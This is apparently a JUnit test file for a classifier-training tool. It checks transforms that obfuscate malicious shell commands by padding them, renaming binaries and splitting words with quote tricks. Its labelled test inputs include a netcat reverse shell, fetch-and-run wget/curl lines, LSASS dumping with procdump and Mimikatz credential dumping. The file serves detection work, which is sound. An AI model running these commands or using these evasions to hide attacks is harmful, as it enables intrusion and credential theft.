package dev.longtail.training.evasion;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.training.data.Label;
import dev.longtail.training.data.LabelledCommand;
import dev.longtail.training.data.LineOrigin;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class EvasionTest {
  private static final Path SH = Path.of("/bin/sh");

  @ParameterizedTest
  @ValueSource(strings = {"linux", "macos", "windows", ""})
  void standsBehindAtLeastAsManyHarmlessCharactersAsItSays(String os) {
    LabelledCommand attack = attack("curl http://192.0.2.1/x -o x", os);
    for (long seed = 0; seed < 20; seed++) {
      String behind32 = Evasion.BEHIND_32.apply(attack, seed);
      String behind128 = Evasion.BEHIND_128.apply(attack, seed);
      assertThat(behind32).endsWith(attack.cmd());
      assertThat(behind128).endsWith(attack.cmd());
      assertThat(behind32.length() - attack.cmd().length()).isBetween(32, 60);
      assertThat(behind128.length() - attack.cmd().length()).isBetween(128, 160);
    }
  }

  @Test
  void joinsAsTheShellOfTheLineAllows() {
    for (long seed = 0; seed < 20; seed++) {
      assertThat(before("reg add HKLM\\Run /v a", "windows", seed)).doesNotContain(";", "\n");
      assertThat(before("Get-Process lsass | Stop-Process", "windows", seed)).doesNotContain("&&");
    }
    assertThat(before("nc -e /bin/sh 192.0.2.1 1", "linux", 3)).containsAnyOf(";", "&&", "\n");
  }

  private static String before(String line, String os, long seed) {
    String text = Evasion.BEHIND_128.apply(attack(line, os), seed);
    return text.substring(0, text.length() - line.length());
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      textBlock =
          """
          linux   ~ sudo nc -e /bin/sh 192.0.2.1 1        ~ sudo [a-z]+\\d\\d -e /bin/sh 192.0.2.1 1
          linux   ~ /usr/bin/nmap -sS a; nmap -sU b       ~ /usr/bin/([a-z]+\\d\\d) -sS a; \\1 -sU b
          linux   ~ A=1 nc 192.0.2.1 80                   ~ A=1 [a-z]+\\d\\d 192.0.2.1 80
          windows ~ certutil.exe -urlcache -f http://x a  ~ [a-z]+\\d\\d.exe -urlcache -f http://x a
          windows ~ C:\\tmp\\procdump64.exe -ma lsass     ~ C:\\\\tmp\\\\[a-z]+\\d\\d.exe -ma lsass
          windows ~ echo "certutil & x" & vssadmin list   ~ echo "certutil & x" & [a-z]+\\d\\d list
          """)
  void renamesProgramsAndNothingElse(String os, String line, String expected) {
    assertThat(Evasion.RENAMED.apply(attack(line, os), 1)).matches(expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      textBlock =
          """
          linux   ~ cd /tmp
          linux   ~ echo 'nmap; nc'
          linux   ~ f() { id; }; f
          linux   ~ case $1 in start) run;; esac
          windows ~ dir C:\\Users
          windows ~ Invoke-Mimikatz -DumpCreds
          windows ~ for %i in (net reg) do echo %i
          """)
  void keepsTheNamesOfWhatIsNoFile(String os, String line) {
    assertThat(Evasion.RENAMED.apply(attack(line, os), 1)).isEqualTo(line);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      textBlock =
          """
          windows ~ certutil "-urlcache x" ~ c\\S*(?:\\^|"")\\S* "-urlcache x"
          windows ~ Invoke-Mimikatz -DumpCreds ~ [Invoke`]+-[Mimikatz`]+ -DumpCreds
          linux   ~ wget "http://a b" ~ \\w+(?:''|""|\\\\)\\w+ "http://a b"
          """)
  void breaksWordsOutsideQuotesOnly(String os, String line, String expected) {
    String broken = Evasion.BROKEN.apply(attack(line, os), 1);
    assertThat(broken).matches(expected).isNotEqualTo(line);
  }

  @Test
  void isAFunctionOfLineSystemAndSeed() {
    LabelledCommand attack = attack("wget http://192.0.2.1/x && chmod +x x && ./x", "linux");
    LabelledCommand equal = attack("wget http://192.0.2.1/x && chmod +x x && ./x", "linux");
    for (Evasion evasion : Evasion.values()) {
      assertThat(evasion.apply(attack, 7)).isEqualTo(evasion.apply(equal, 7));
      assertThat(List.of(evasion.apply(attack, 8), evasion.apply(attack, 9)))
          .anyMatch(other -> !other.equals(evasion.apply(attack, 7)));
    }
  }

  /** What is claimed of POSIX lines is tried: a shell does the same with each. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo abc def | tr abc xyz",
        "printf '%s\\n' one two three | sort -r | head -n 2",
        "for f in alpha beta; do echo item $f; done",
        "if test -d /usr; then echo there; else echo missing; fi",
        "VALUE=long; echo ${VALUE}er \"quoted words\" 'single ones'",
        "cat /dev/null; echo $(basename /opt/some/file.txt .txt)",
        "{ echo group; echo other; } | wc -l",
        "while read line; do echo got $line; done < /dev/null; echo end",
        "find /usr -maxdepth 0 -name usr -exec echo found {} \\;",
        "X=$(expr 4 + 5) && echo $X || echo failed",
        "case abc in abc) echo yes;; *) echo no;; esac"
      })
  void aShellDoesTheSame(String line) throws IOException, InterruptedException {
    Assumptions.assumeTrue(Files.isExecutable(SH), "no " + SH);
    String expected = output(line);
    assertThat(expected).isNotBlank();
    for (long seed = 0; seed < 5; seed++) {
      LabelledCommand attack = attack(line, "linux");
      assertThat(output(Evasion.BROKEN.apply(attack, seed))).isEqualTo(expected);
      assertThat(output(Evasion.BEHIND_32.apply(attack, seed).replaceAll("sleep 1", "sleep 0")))
          .endsWith(expected);
    }
  }

  private static String output(String line) throws IOException, InterruptedException {
    Process shell = new ProcessBuilder(SH.toString(), "-c", line).redirectErrorStream(true).start();
    shell.getOutputStream().close();
    String output = new String(shell.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(shell.waitFor(10, TimeUnit.SECONDS)).isTrue();
    return output;
  }

  private static LabelledCommand attack(String line, String os) {
    return new LabelledCommand(line, Label.MALICIOUS, new LineOrigin(os, "test"));
  }
}
